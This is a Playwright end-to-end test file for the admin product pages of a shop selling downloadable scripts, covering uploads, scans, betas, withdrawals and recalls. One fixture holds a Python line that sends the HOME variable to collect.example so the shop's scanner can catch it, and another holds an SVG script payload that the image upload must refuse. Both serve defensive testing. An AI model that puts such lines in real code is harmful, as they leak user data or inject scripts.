import { readFileSync, writeFileSync } from 'node:fs'
import { strToU8, zipSync } from 'fflate'
import { addMonths } from '../../src/shared/core/time.ts'
import { MANIFEST } from '../testing/manifest.ts'
import { changeTables, signStatement } from '../testing/own-shop.ts'
import {
  buyByApi,
  deleteProducts,
  logInAsAdmin,
  newAccount,
  ownOrigin,
  registerByApi,
  sha256,
} from '../testing/shop.ts'
import { signRelease } from '../testing/sign-release.ts'
import { expectSound, violationsOf } from '../testing/sound.ts'
import { type APIRequestContext, DEEP, expect, type Page, test } from '../testing/test.ts'

test.use({ contextOptions: { reducedMotion: 'reduce' } })

const PRODUCTS = '/secure-management/admin-dashboard?tab=products'
const API = '/api/secure-management/products'
/** The list's requests, with any filter. */
const LIST = /\/api\/secure-management\/products(\?.*)?$/
const LIMIT = 25 * 1024 * 1024

const toastOf = (page: Page) => page.locator('[data-tone]')
let count = 0
const aName = () => `E2E script ${Date.now().toString(36)} ${count++}`

test.afterEach(async ({ playwright, baseURL }) => {
  const request = await playwright.request.newContext({ baseURL: baseURL ?? '' })
  await deleteProducts(request, baseURL, 'E2E script')
  await request.dispose()
})

async function aProduct(request: APIRequestContext, baseURL: string | undefined, name = aName()) {
  const data = { name, description: 'Claims what you have earned.', price: 9.5, features: ['Farms targets'] }
  const made = await request.post(API, { data, headers: ownOrigin(baseURL) })
  expect(made.status()).toBe(201)
  return (await made.json()).data as { id: number; slug: string; name: string }
}

const aZip = (text = 'print("hello")\n') =>
  Buffer.from(zipSync({ 'farm/main.py': strToU8(text), 'farm/windfall.json': strToU8(MANIFEST) }))

/** A ZIP archive of exactly `length` bytes. */
function aZipOf(length: number): Buffer {
  const packed = (size: number) => {
    const data = new Uint8Array(size)
    for (let at = 0; at < size; at += 65_536) crypto.getRandomValues(data.subarray(at, at + 65_536))
    return zipSync({ 'farm/data.bin': [data, { level: 0 }] })
  }
  return Buffer.from(packed(length - packed(0).length))
}

/** The smallest PNG header, for 640 × 400 pixels. */
function aPng(): Buffer {
  const bytes = Buffer.alloc(64)
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])
  bytes.writeUInt32BE(640, 16)
  bytes.writeUInt32BE(400, 20)
  return bytes
}

const zipFile = (buffer: Buffer, name = 'farm.zip') => ({ name, mimeType: 'application/zip', buffer })

/** Writes a file for the browser to read: Playwright would send a buffer into the page as text. */
function fileOnDisk(name: string, buffer: Buffer): string {
  const path = test.info().outputPath(name)
  writeFileSync(path, buffer)
  return path
}

/** An expression for the browser: a DataTransfer with one file of `head`, then zeros up to `length` bytes. */
const fileInPage = (name: string, type: string, head: Buffer, length = head.length) => `(() => {
  const bytes = new Uint8Array(${length})
  bytes.set(Uint8Array.from(atob('${head.toString('base64')}'), (one) => one.charCodeAt(0)))
  const transfer = new DataTransfer()
  transfer.items.add(new File([bytes], '${name}', { type: '${type}' }))
  return transfer
})()`

const chooseLarge = (page: Page, length: number) =>
  page.evaluate(`(() => {
    const input = document.querySelector('input[type=file][accept*=zip]')
    input.files = ${fileInPage('large.zip', 'application/zip', aZip().subarray(0, 30), length)}.files
    input.dispatchEvent(new Event('change', { bubbles: true }))
  })()`)

// spec: products-list, product-form, product-add
test('a new product gets a file, is published and appears in the shop', async ({
  page,
  baseURL,
  browser,
}) => {
  await logInAsAdmin(page.request, baseURL)
  await page.goto(PRODUCTS)
  await page.getByRole('link', { name: 'Add Product' }).click()
  await expect(page).toHaveURL(`${PRODUCTS}&product=new`)
  const submit = page.getByRole('button', { name: 'Add Product' })
  await submit.click()
  for (const said of [
    'Name is required',
    'Description is required',
    'Price must be a positive number',
    'Features are required',
  ]) {
    await expect(page.getByText(said)).toBeVisible()
  }
  const name = aName()
  await page.getByLabel('Name', { exact: true }).fill(name)
  await page.getByLabel('Description').fill(`${'Watches. '.repeat(20)}\nSleeps.`)
  const promised = page.getByLabel('Security updates until')
  await expect(promised).toHaveValue(new Date(addMonths(Date.now(), 24)).toISOString().slice(0, 10))
  await promised.fill('2038-06-30')
  await page.getByLabel('Price in USD').fill('0')
  await page.getByLabel('Features').fill('Keeps to your wallet\n\n  Paces itself ')
  await expect(page.getByText('Category Wallet')).toBeVisible()
  await submit.click()
  await expect(page.getByText('Price must be a positive number')).toBeVisible()
  await page.getByLabel('Price in USD').fill('12.34')
  await submit.click()
  await expect(toastOf(page)).toContainText('Product Added')
  await expect(page).toHaveURL(/product=\d+$/)
  await expect(page.getByText('Not on sale: no published file')).toBeVisible()

  const bytes = aZip()
  await page.locator('input[type=file][accept*=zip]').setInputFiles(zipFile(bytes))
  await expect(page.getByRole('textbox', { name: /^Version/ })).toHaveAttribute('placeholder', '1.0')
  await page.getByRole('textbox', { name: /^Changelog/ }).fill('The first one.')
  await page.getByRole('button', { name: 'Upload as draft' }).click()
  await expect(toastOf(page)).toContainText('File Uploaded')
  const release = page.getByRole('list', { name: 'Releases' }).getByRole('listitem')
  await expect(release).toContainText('v1.0')
  await expect(release).toContainText('Draft')
  await expect(release.getByRole('button', { name: /^Copy SHA-256/ })).toHaveAttribute('title', sha256(bytes))

  const visitor = await (await browser.newContext()).newPage()
  await visitor.goto(`${baseURL}/products?q=${encodeURIComponent(name)}`)
  await expect(visitor.getByRole('heading', { level: 1 })).toBeVisible()
  await expect(visitor.getByRole('heading', { name })).toHaveCount(0)
  await expect(release.getByRole('button', { name: 'Publish v1.0' })).toHaveCount(0)
  await signRelease(page, release)
  await page.getByRole('button', { name: 'Publish v1.0' }).click()
  const dialog = page.getByRole('alertdialog')
  await dialog.getByRole('checkbox', { name: 'Notify buyers and subscribers' }).click()
  await dialog.getByRole('button', { name: 'Publish release' }).click()
  await expect(toastOf(page)).toContainText('Release Published')
  await expect(release).toContainText('Published')
  await page.getByRole('link', { name: 'In the shop' }).click()
  await expect(page.getByRole('heading', { name, level: 1 })).toBeVisible()
  await expect(page.getByText('$12.34').first()).toBeVisible()
  await expect(page.getByText('Security updates until 30 Jun 2038.')).toBeVisible()
  const description = page.getByText('Watches. Watches.').first()
  await expect(description).toHaveText(/Watches\. ?\nSleeps\.$/, { useInnerText: true })

  await page.goto(PRODUCTS)
  await page.getByRole('searchbox').fill(name)
  const row = page.getByRole('row', { name: new RegExp(name) })
  await expect(row).toContainText('v1.0')
  await expect(row).toContainText(`${'Watches. '.repeat(20).slice(0, 80).trimEnd()}…`)
  await visitor.reload()
  await expect(visitor.getByRole('heading', { name })).toBeVisible()
  await visitor.context().close()
})

// spec: product-file
test('a file of 25 MB is uploaded with its progress shown; a file one byte larger is not sent', {
  tag: DEEP,
}, async ({ page, baseURL }) => {
  test.setTimeout(120_000)
  await logInAsAdmin(page.request, baseURL)
  const { id } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const sent: string[] = []
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().includes('/file')) sent.push(request.url())
  })
  await expect(page.getByRole('button', { name: 'Choose a ZIP file' })).toBeVisible()
  await chooseLarge(page, LIMIT + 1)
  await expect(toastOf(page)).toContainText('File Too Large')
  await expect(toastOf(page)).toContainText('Maximum file size is 25MB')
  await expect(page.getByRole('button', { name: 'Upload as draft' })).toHaveCount(0)
  expect(sent).toEqual([])

  // A connection slow enough to see the progress.
  const line = await page.context().newCDPSession(page)
  await line.send('Network.enable')
  await line.send('Network.emulateNetworkConditions', {
    offline: false,
    latency: 0,
    downloadThroughput: -1,
    uploadThroughput: 6 * 1024 * 1024,
  })
  await page.locator('input[type=file][accept*=zip]').setInputFiles(fileOnDisk('large.zip', aZipOf(LIMIT)))
  await page.getByRole('button', { name: 'Upload as draft' }).click()
  const bar = page.getByRole('progressbar', { name: 'Uploading large.zip' })
  const uploaded = toastOf(page).filter({ hasText: 'File Uploaded' })
  const seen = new Set<string>()
  for (let attempt = 0; attempt < 200 && (await uploaded.count()) === 0; attempt += 1) {
    seen.add((await bar.getAttribute('aria-valuenow', { timeout: 500 }).catch(() => null)) ?? '')
    await page.waitForTimeout(100)
  }
  await expect(uploaded).toBeVisible({ timeout: 30_000 })
  expect([...seen].filter((value) => Number(value) > 0 && Number(value) < 100).length).toBeGreaterThan(2)
  await expect(page.getByRole('list', { name: 'Releases' })).toContainText('25.0 MB')
})

test('an upload that is cancelled leaves nothing', { tag: DEEP }, async ({ page, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const line = await page.context().newCDPSession(page)
  await line.send('Network.enable')
  await line.send('Network.emulateNetworkConditions', {
    offline: false,
    latency: 0,
    downloadThroughput: -1,
    uploadThroughput: 1024 * 1024,
  })
  await page
    .locator('input[type=file][accept*=zip]')
    .setInputFiles(fileOnDisk('farm.zip', aZipOf(8 * 1024 * 1024)))
  await page.getByRole('button', { name: 'Upload as draft' }).click()
  await page.getByRole('button', { name: 'Cancel upload' }).click()
  await expect(page.getByRole('button', { name: 'Upload as draft' })).toBeVisible()
  await expect(toastOf(page)).toHaveCount(0)
  const { data } = await (await page.request.get(`${API}/${id}`)).json()
  expect(data.releases).toEqual([])
})

// spec: upload-failures
test('a file that is not an archive is refused before the upload, and a non-JSON failure is shown', {
  tag: DEEP,
}, async ({ page, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const input = page.locator('input[type=file][accept*=zip]')
  await input.setInputFiles(zipFile(Buffer.from('MZ is a program'), 'farm.zip'))
  await expect(toastOf(page)).toContainText('Invalid File Type')
  await page.route(`**${API}/${id}/file`, (route) =>
    route.fulfill({ status: 502, contentType: 'text/html', body: `<h1>Bad gateway</h1>${'x'.repeat(200)}` }),
  )
  await input.setInputFiles(zipFile(aZip()))
  await page.getByRole('button', { name: 'Upload as draft' }).click()
  await expect(toastOf(page)).toContainText('Error Uploading File')
  await expect(toastOf(page)).toContainText(`Server error: <h1>Bad gateway</h1>${'x'.repeat(80)}`)
  await expect(toastOf(page)).not.toContainText('x'.repeat(81))
})

// spec: product-image
test('a dropped image can be uploaded, is shown in the shop, and can be removed; a wrong type or size is refused', {
  tag: DEEP,
}, async ({ page, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id, slug, name } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const zone = page.getByRole('group', { name: 'Choose an image' })
  const drop = async (fileName: string, type: string, content: Buffer) => {
    const dataTransfer = await page.evaluateHandle(fileInPage(fileName, type, content))
    await zone.dispatchEvent('drop', { dataTransfer })
  }
  await drop('cover.png', 'image/png', Buffer.from('<svg><script>alert(1)</script></svg>'))
  await expect(toastOf(page)).toContainText('Invalid File Type')
  await expect(toastOf(page)).toContainText('SVG images can contain scripts')
  await drop('cover.png', 'image/png', Buffer.concat([aPng(), Buffer.alloc(5 * 1024 * 1024)]))
  await expect(toastOf(page)).toContainText('Image Too Large')
  await drop('cover.png', 'image/png', aPng())
  await expect(page.getByRole('button', { name: 'Upload image' })).toBeVisible()
  await page.getByRole('button', { name: 'Upload image' }).click()
  await expect(toastOf(page)).toContainText('Image Uploaded')
  const { data } = await (await page.request.get(`/api/products/${slug}`)).json()
  expect(data.imageUrl).toMatch(new RegExp(`^/api/products/${id}/image/[0-9a-f]{32}\\.png$`))
  const shown = await page.request.get(data.imageUrl)
  expect(shown.headers()['content-type']).toBe('image/png')
  await page.goto(`/products/${slug}`)
  await expect(page.getByRole('heading', { name, level: 1 })).toBeVisible()
  await page.goto(`${PRODUCTS}&product=${id}`)
  await page.getByRole('button', { name: 'Remove image' }).click()
  await expect(toastOf(page)).toContainText('Image Removed')
})

// spec: product-delete, product-price
test('a price is changed in the list; a product is deleted after a confirmation, and restored', {
  tag: DEEP,
}, async ({ page, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id, name, slug } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&q=${encodeURIComponent(name)}`)
  await page.getByRole('button', { name: `Change the price of ${name}` }).click()
  const field = page.getByLabel(`New price of ${name}`)
  await field.fill('-1')
  await field.press('Enter')
  await expect(page.getByText('Price must be a positive number')).toBeVisible()
  await field.fill('21')
  await field.press('Enter')
  await expect(toastOf(page)).toContainText('Price Updated')
  await expect(page.getByRole('row', { name: new RegExp(name) })).toContainText('$21.00')
  await page.route(`**${API}/${id}`, (route) =>
    route.fulfill({ status: 503, json: { success: false, message: 'Down' } }),
  )
  await page.getByRole('button', { name: `Delete ${name}` }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete product' }).click()
  await expect(toastOf(page)).toContainText('Failed to delete product')
  await page.unroute(`**${API}/${id}`)
  await page.getByRole('button', { name: `Delete ${name}` }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete product' }).click()
  await expect(toastOf(page)).toContainText('Product Deleted')
  expect((await page.request.get(`/api/products/${slug}`)).status()).toBe(404)
  await page.getByRole('button', { name: `Restore ${name}` }).click()
  await expect(toastOf(page)).toContainText('Product Restored')
  expect((await page.request.get(`/api/products/${slug}`)).status()).toBe(200)
})

test('saving a form keeps what was changed elsewhere while it was open', { tag: DEEP }, async ({
  page,
  baseURL,
}) => {
  await logInAsAdmin(page.request, baseURL)
  const { id } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const description = page.getByRole('textbox', { name: 'Description' })
  await expect(description).toHaveValue('Claims what you have earned.')
  const headers = ownOrigin(baseURL)
  await page.request.patch(`${API}/${id}/price`, { data: { price: 12.5 }, headers })
  await description.fill('Claims it all.')
  await page.getByRole('button', { name: 'Save changes' }).click()
  await expect(toastOf(page).filter({ hasText: 'Product Updated' })).toBeVisible()
  const { data } = await (await page.request.get(`${API}/${id}`)).json()
  expect(data).toMatchObject({ price: 12.5, description: 'Claims it all.' })
})

// invariant: published-is-declared
test('a release that does more than it declares waits for another admin, whose reason everybody can read', {
  tag: DEEP,
}, async ({ page, browser, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id, slug } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const hidden =
    'import os, urllib.request\nurllib.request.urlopen("https://collect.example/" + os.environ["HOME"])\n'
  await page.locator('input[type=file][accept*=zip]').setInputFiles(zipFile(aZip(hidden)))
  await page.getByRole('button', { name: 'Upload as draft' }).click()
  const release = page.getByRole('list', { name: 'Releases' }).getByRole('listitem').first()
  await expect(release).toContainText('The scan found 2 things that windfall.json does not declare')
  await expect(release).toContainText('collect.example')
  await expect(release).toContainText('main.py:2')
  await signRelease(page, release)
  await expect(release.getByRole('button', { name: 'Publish v1.0' })).toBeDisabled()
  await expectSound(page, 'a draft whose scan found something')
  await release.getByRole('button', { name: 'Confirm the scan of v1.0' }).click()
  const dialog = page.getByRole('alertdialog')
  await dialog.getByLabel('Reason').fill('It only reports that it runs')
  await dialog.getByRole('button', { name: 'Confirm scan' }).click()
  await expect(toastOf(page)).toContainText('Another admin must confirm this')

  const second = await browser.newContext({ baseURL })
  const other = newAccount()
  await registerByApi(second.request, baseURL, other)
  const name = other.username.toLowerCase()
  await changeTables('UPDATE users SET is_admin = 1 WHERE username_key = ?', name)
  await changeTables(
    "UPDATE users SET admin_since = ? WHERE username_key IN (?, 'admin')",
    Date.now() - 8 * 86_400_000,
    name,
  )
  const their = await second.newPage()
  await their.goto(`${PRODUCTS}&product=${id}`)
  await their.getByRole('button', { name: 'Confirm the scan of v1.0' }).click()
  await their.getByRole('alertdialog').getByLabel('Reason').fill('It only reports that it runs')
  await their.getByRole('alertdialog').getByRole('button', { name: 'Confirm scan' }).click()
  await expect(toastOf(their)).toContainText('Scan Confirmed')
  await second.close()

  await page.reload()
  await expect(release).toContainText('It only reports that it runs')
  await release.getByRole('button', { name: 'Publish v1.0' }).click()
  await dialog.getByRole('button', { name: 'Publish release' }).click()
  await expect(toastOf(page)).toContainText('Release Published')
  await page.goto(`/products/${slug}`)
  const touches = page.getByRole('region', { name: 'What this script touches' })
  await expect(touches).toContainText('It only reports that it runs')
  await expect(touches).toContainText('2 things')
})

test('a beta version goes to the owner who switched to it, until an admin offers it to everyone', {
  tag: DEEP,
}, async ({ page, browser, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id, slug, name } = await aProduct(page.request, baseURL)
  await page.goto(`${PRODUCTS}&product=${id}`)
  const first = page.getByRole('list', { name: 'Releases' }).getByRole('listitem').first()
  const dialog = page.getByRole('alertdialog')
  const [stable, beta] = [aZip(), aZip('print("beta")\n')]
  const publish = async (version: string, bytes: Buffer, isBeta: boolean) => {
    await page.locator('input[type=file][accept*=zip]').setInputFiles(zipFile(bytes))
    if (isBeta) await page.getByRole('checkbox', { name: 'Beta version' }).click()
    await page.getByRole('button', { name: 'Upload as draft' }).click()
    await expect(first).toContainText(`v${version}`)
    await signRelease(page, first)
    await page.getByRole('button', { name: `Publish v${version}` }).click()
    await dialog.getByRole('button', { name: 'Publish release' }).click()
    await expect(first).toContainText('Published')
  }
  await publish('1.0', stable, false)
  const owners = await Promise.all(
    ['tester', 'other'].map(async () => {
      const context = await browser.newContext({ baseURL })
      const account = newAccount()
      await registerByApi(context.request, baseURL, account)
      await buyByApi(context.request, baseURL, account, id)
      return context
    }),
  )
  const [tester, other] = owners
  if (!tester || !other) throw new Error('There are two owners')
  await publish('1.1', beta, true)
  await expect(first.getByText('Beta', { exact: true })).toBeVisible()
  await expectSound(page, 'a published beta version')

  const bytesFor = async (context: typeof tester) => {
    const response = await context.request.get(`/api/download/file/${id}`)
    return sha256(await response.body())
  }
  await expect.poll(() => bytesFor(tester)).toBe(sha256(stable))
  const dashboard = await tester.newPage()
  await dashboard.goto('/dashboard?tab=products')
  const card = dashboard.getByRole('main').locator('li:has(h2)').filter({ hasText: name })
  await expect(card).toContainText('v1.0')
  await card.getByRole('button', { name: /^Details/ }).click()
  await card.getByRole('switch', { name: `Beta versions of ${name}` }).click()
  await expect(card).toContainText('v1.1')
  await expectSound(dashboard, 'the card of an owner of a beta version')
  const download = dashboard.waitForEvent('download')
  await card.getByRole('link', { name: /^Download Script/ }).click()
  expect(sha256(readFileSync(await (await download).path()))).toBe(sha256(beta))
  expect(await bytesFor(other)).toBe(sha256(stable))
  await dashboard.goto(`/products/${slug}`)
  await expect(dashboard.getByText(/Version 1\.1 has been a beta version since/)).toBeVisible()
  await expect(dashboard.getByRole('combobox', { name: 'To version' })).toHaveValue('1.1')

  await page.getByRole('button', { name: 'Offer to everyone: v1.1' }).click()
  await dialog.getByRole('button', { name: 'Offer to everyone' }).click()
  await expect(toastOf(page).filter({ hasText: 'Offered to Everyone' })).toBeVisible()
  await expect(first).toContainText('Current')
  expect(await bytesFor(other)).toBe(sha256(beta))
  for (const context of owners) await context.close()
})

test('withdrawing a release shows the number of mails first, keeps the reason, and takes the release out of the shop; a recall reaches its owners', {
  tag: DEEP,
}, async ({ page, browser, request, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  const { id, slug } = await aProduct(page.request, baseURL)
  const sent = await page.request.post(`${API}/${id}/file`, {
    headers: ownOrigin(baseURL),
    multipart: { file: zipFile(aZip()) },
  })
  const [release] = (await sent.json()).data.releases
  const signature = await signStatement(release.statement)
  const ofRelease = `/api/secure-management/releases/${release.id}`
  await page.request.put(`${ofRelease}/signature`, { data: { signature }, headers: ownOrigin(baseURL) })
  const publish = `${ofRelease}/publish`
  await page.request.post(publish, { data: { silent: true }, headers: ownOrigin(baseURL) })
  expect((await (await request.get(`/api/products/${slug}`)).json()).data.fileVersion).toBe('1.0')
  const reader = newAccount()
  await registerByApi(request, baseURL, reader)
  await changeTables(
    `INSERT INTO downloads (user_id, script_id, release_id, via, created_at)
      SELECT id, ?, ?, 'session', ? FROM users WHERE username_key = ?`,
    ...[id, release.id, Date.now(), reader.username.toLowerCase()],
  )
  await page.goto(`${PRODUCTS}&product=${id}`)
  await page.getByRole('button', { name: 'Withdraw v1.0' }).click()
  const dialog = page.getByRole('alertdialog')
  await expect(dialog).toContainText('It is the only stable release')
  await expect(dialog).toContainText('1 person downloaded it.')
  const withdraw = dialog.getByRole('button', { name: 'Withdraw and email 1 person' })
  await withdraw.click()
  await expect(dialog.getByText('Say why')).toBeVisible()
  await dialog.getByLabel('Reason').fill('Signs twice')
  await withdraw.click()
  await expect(toastOf(page)).toContainText('Release Withdrawn')
  await expect(page.getByText('Notifying customers')).toBeVisible()
  await expect(page.getByText('Withdrawn: Signs twice')).toBeVisible()
  expect((await (await request.get(`/api/products/${slug}`)).json()).data.fileVersion).toBeNull()

  const context = await browser.newContext({ baseURL, storageState: await request.storageState() })
  const owner = await context.newPage()
  await owner.goto('/dashboard')
  await expect(owner.getByText('Live', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Recall v1.0' }).click()
  await expect(dialog).toContainText('This is final')
  await dialog.getByLabel('Reason').fill('It sends keys to a stranger')
  await dialog.getByLabel('What to do').fill('Move your funds to a new wallet.')
  await dialog.getByRole('button', { name: 'Recall and email 1 person' }).click()
  await expect(toastOf(owner).filter({ hasText: 'Version recalled' })).toBeVisible()
  await expect(toastOf(page).filter({ hasText: 'Release Recalled' })).toBeVisible()
  await expect(page.getByText('What to do: Move your funds to a new wallet.')).toBeVisible()
  await expect(page.getByRole('button', { name: 'Publish v1.0' })).toBeHidden()
  await owner.goto(`/products/${slug}`)
  const notice = owner.getByRole('region', { name: 'A version was recalled' })
  await expect(notice).toContainText('Do not run version 1.0.')
  await expect(notice).toContainText('Move your funds to a new wallet.')
  expect(await violationsOf(owner)).toEqual([])
  await context.close()
})

// spec: products-empty
test('the list shows an empty state or an error with a retry, and a customer gets 403', {
  tag: DEEP,
}, async ({ page, request, baseURL }) => {
  await logInAsAdmin(page.request, baseURL)
  await page.goto(`${PRODUCTS}&q=nothing-is-called-this`)
  await expect(page.getByText('No products available.')).toBeVisible()
  await page.route(LIST, (route) => route.fulfill({ status: 500, json: { success: false, message: 'Down' } }))
  await page.getByRole('button', { name: 'Show all products' }).click()
  await expect(page.getByText('The products could not be loaded')).toBeVisible()
  await page.unroute(LIST)
  await page.getByRole('button', { name: 'Retry' }).click()
  await expect(page.getByRole('table', { name: 'Products' })).toBeVisible()
  await registerByApi(request, baseURL, newAccount())
  expect((await request.get(API)).status()).toBe(403)
})

test('the list, the form and a product are sound', { tag: DEEP }, async ({ page, baseURL }) => {
  test.setTimeout(180_000)
  await logInAsAdmin(page.request, baseURL)
  for (const address of [PRODUCTS, `${PRODUCTS}&product=new`, `${PRODUCTS}&product=1`]) {
    await page.goto(address)
    await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible()
    await expect(page.locator('[aria-busy=true]')).toHaveCount(0)
    await expectSound(page, address)
  }
})
